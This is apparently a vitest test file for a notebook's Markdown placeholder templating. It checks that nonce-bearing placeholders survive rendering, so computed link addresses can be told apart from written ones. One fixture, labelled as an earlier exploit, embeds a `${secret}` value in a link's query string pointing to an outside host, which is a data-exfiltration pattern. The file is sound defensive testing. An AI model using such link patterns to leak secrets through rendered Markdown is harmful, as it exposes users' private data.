// The placeholders Markdown values hold their place with, checked against the real `marked` in Node:
// each interpolation site (text, link address, image source, raw HTML, autolink) keeps the placeholder
// intact and findable, so the browser step can tell a computed address from a written one.
import { describe, expect, it } from "vitest";
import { Marked } from "marked";
import { compileMarkdown } from "../../src/compile/markdown";
import { newNonce, placeholderTemplate } from "../../src/ui/markdown-template";

const marked = new Marked({ gfm: true, breaks: false, async: false });
const piecesOf = (source: string) => compileMarkdown(source).body!.interpolation!.pieces;
const render = (source: string) => {
  const template = placeholderTemplate(piecesOf(source), "feedc0de");
  return { html: marked.parse(template.markdown) as string, pattern: template.pattern };
};
const found = (html: string, pattern: RegExp) => [...html.matchAll(pattern)].map((m) => Number(m[1]));

describe("placeholderTemplate(pieces, nonce)", () => {
  it("joins the pieces with numbered placeholders the pattern finds again", () => {
    const { markdown, pattern } = placeholderTemplate(["a ", " b ", ""], "ab12");
    expect(markdown).toBe("a 0cbvab12v0v b 0cbvab12v1v");
    expect(found(markdown, pattern)).toEqual([0, 1]);
    expect(placeholderTemplate(["just text"]).markdown).toBe("just text");
  });

  it("uses a fresh random part each render, so a notebook cannot write a placeholder itself", () => {
    const nonces = new Set(Array.from({ length: 50 }, () => newNonce()));
    expect(nonces.size).toBe(50);
    for (const n of nonces) expect(n).toMatch(/^[0-9a-f]{24}$/);
  });

  it("survives marked at every site: text, link address and text, image source, raw HTML, autolinks", () => {
    const cases: [string, RegExp][] = [
      ["We have ${n}, **${m}** new.", /<p>We have 0cbvfeedc0dev0v, <strong>0cbvfeedc0dev1v<\/strong> new\.<\/p>/],
      // The exploit of issue 10: the value sits inside the link destination, in the query string.
      ["[details](http://x.example/d?c=${secret})", /<a href="http:\/\/x\.example\/d\?c=0cbvfeedc0dev0v">details<\/a>/],
      ["[${label}](https://static.example/)", /<a href="https:\/\/static\.example\/">0cbvfeedc0dev0v<\/a>/],
      ["![chart](data:image/png;base64,${b64})", /<img src="data:image\/png;base64,0cbvfeedc0dev0v" alt="chart">/],
      ['<a href="https://x.example/?q=${q}">go</a>', /<a href="https:\/\/x\.example\/\?q=0cbvfeedc0dev0v">go<\/a>/],
      ["see https://x.example/?q=${q} now", /<a href="https:\/\/x\.example\/\?q=0cbvfeedc0dev0v">https:/],
      ["<https://x.example/${path}>", /<a href="https:\/\/x\.example\/0cbvfeedc0dev0v">/],
      ["mail ${user}@x.example", /<a href="mailto:0cbvfeedc0dev0v@x\.example">/],
    ];
    for (const [source, expected] of cases) {
      const { html } = render(source);
      expect(html, source).toMatch(expected);
    }
  });

  it("leads with a digit, so a value cannot become a tag, an attribute name or a URL scheme", () => {
    expect(render("<${tag}>hi").html).toContain("&lt;0cbvfeedc0dev0v&gt;hi");
    expect(render('<img src="data:image/png;base64,AA" ${attr}>').html).toContain("&lt;img");
    expect(render("${scheme}://x.example").html).not.toContain("href");
  });
});
